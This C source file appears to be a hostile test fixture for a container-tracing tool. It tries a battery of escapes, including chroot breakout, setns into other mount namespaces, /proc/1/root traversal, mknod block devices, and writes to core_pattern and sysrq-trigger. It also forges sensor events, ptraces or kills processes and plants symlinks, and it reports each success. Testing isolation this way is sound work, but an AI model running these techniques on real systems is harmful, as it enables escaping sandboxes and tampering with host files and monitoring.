/*
 * An app that attacks whoever traces it: forges the sensor's events, looks for its descriptors and processes,
 * and tries each way out of its container. Prints what it could do, one line each; then serves a page.
 *
 * hostile HOST_FILE [signals]: a file of the host, which nobody in the container may read or change; and whether
 * processes are also stopped and killed, among which is the sensor where that shares the app's process namespace.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static void forge(int fd)
{
	static const char *const marks[] = {"", "0", "0123456789abcdef", "00000000000000000000000000000000"};
	static const char *const events[] = {"lost forged", "fail forged", "exit 0", "listen tcp 1", "exec",
					     "port 8080 1", "out forged", "note forged"};

	for (size_t m = 0; m < sizeof(marks) / sizeof(*marks); m++)
		for (size_t e = 0; e < sizeof(events) / sizeof(*events); e++)
			dprintf(fd, "\x1e%s %s\n", marks[m], events[e]);
	dprintf(fd, "\x1e");
	for (int i = 0; i < 2000; i++)
		dprintf(fd, "%.*s", 64, "\x1e\x1e\x1e\x1e\x1e\x1e\x1e\x1e\x1e\x1e\x1e\x1e\x1e\x1e\x1e\x1e"
					"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
	dprintf(fd, "\n");
}

static void use_descriptors(void)
{
	for (int fd = 3; fd < 1024; fd++) {
		struct seccomp_notif request = {0};

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		printf("ESCAPE descriptor %d was inherited\n", fd);
		fcntl(fd, F_SETFL, O_NONBLOCK);
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &request) == 0)
			printf("ESCAPE descriptor %d is a listener\n", fd);
		forge(fd);
	}
}

static void attack_processes(bool with_signals)
{
	for (pid_t pid = 1; pid < 300; pid++) {
		if (pid == getpid() || pid == getppid()) /* itself: the server goes on */
			continue;
		if (with_signals) {
			kill(pid, SIGSTOP);
			kill(pid, SIGKILL);
		}
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
			printf("ESCAPE traced process %d\n", pid);
	}
}

static void try_path(const char *prefix, const char *file)
{
	char path[8192];
	int fd;

	snprintf(path, sizeof(path), "%s%s", prefix, file);
	fd = open(path, O_RDWR | O_APPEND);
	if (fd < 0)
		return;
	printf("ESCAPE %s was opened\n", path);
	dprintf(fd, "overwritten\n");
	close(fd);
}

static void open_disks(const char *path)
{
	for (unsigned int major_of = 7; major_of < 260; major_of++) {
		if (mknod(path, S_IFBLK | 0600, makedev(major_of, 0)) < 0)
			return;
		int fd = open(path, O_RDONLY);

		if (fd >= 0) {
			printf("ESCAPE block device %u:0 was opened as %s\n", major_of, path);
			close(fd);
		}
		unlink(path);
	}
}

static void leave(const char *file)
{
	static const char *const prefixes[] = {"", "/proc/1/root", "/proc/self/root/../..", "/../../..", "/proc/1/cwd",
					       "/.slim/out/../.."};
	char mount_ns[64];
	int fd;

	for (size_t i = 0; i < sizeof(prefixes) / sizeof(*prefixes); i++)
		try_path(prefixes[i], file);
	for (int fd_of = 0; fd_of < 64; fd_of++) {
		char prefix[64];

		snprintf(prefix, sizeof(prefix), "/proc/1/fd/%d/../../../../../../../../..", fd_of);
		try_path(prefix, file);
	}
	for (pid_t pid = 1; pid < 200; pid++) {
		snprintf(mount_ns, sizeof(mount_ns), "/proc/%d/ns/mnt", pid);
		fd = open(mount_ns, O_RDONLY);
		if (fd >= 0 && setns(fd, CLONE_NEWNS) == 0)
			try_path("", file);
		if (fd >= 0)
			close(fd);
	}
	mkdir("/jail", 0700);
	fd = open("/", O_RDONLY | O_DIRECTORY);
	if (chroot("/jail") == 0) { /* the classic way out of a chroot */
		if (fchdir(fd) == 0)
			for (int i = 0; i < 100; i++)
				if (chdir("..") < 0)
					break;
		try_path(".", file);
		if (chroot(".") == 0)
			try_path("", file);
	}
	if (fchdir(fd) < 0 || chroot(".") < 0)
		puts("stays in its jail");
	close(fd);
	open_disks("/disk");
	open_disks("/dev/disk");
	open_disks("/data/disk");
	if (mount("proc", "/proc", "proc", 0, NULL) == 0)
		puts("ESCAPE /proc was mounted");
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
		puts("unshared");
	fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
	if (fd >= 0) {
		puts("ESCAPE /proc/sys/kernel/core_pattern was opened");
		close(fd);
	}
	fd = open("/proc/sysrq-trigger", O_WRONLY);
	if (fd >= 0) {
		puts("ESCAPE /proc/sysrq-trigger was opened");
		close(fd);
	}
}

static void litter(const char *file)
{
	char name[300];

	symlink(file, "/www/stolen.txt");
	symlink(file, "/.slim/out/stolen");
	symlink("/..", "/.slim/out/up");
	mkfifo("/.slim/out/pipe", 0666);
	memset(name, 'n', 240);
	for (int i = 0; i < 300; i++) {
		snprintf(name + 240, sizeof(name) - 240, "\n%d", i);
		chdir("/tmp");
		close(open(name, O_CREAT | O_WRONLY, 0600));
	}
	chdir("/");
}

int main(int argc, char **argv)
{
	const char *file = argc > 1 ? argv[1] : "/etc/hostname";

	setvbuf(stdout, NULL, _IONBF, 0);
	forge(STDOUT_FILENO);
	forge(STDERR_FILENO);
	use_descriptors();
	if (fork() == 0) {
		attack_processes(argc > 2);
		leave(file);
		_exit(0);
	}
	wait(NULL);
	litter(file);
	puts("attacked");
	execl("/bin/httpd", "httpd", "-f", "-p", "8080", "-h", "/www", (char *)NULL);
	return 1;
}
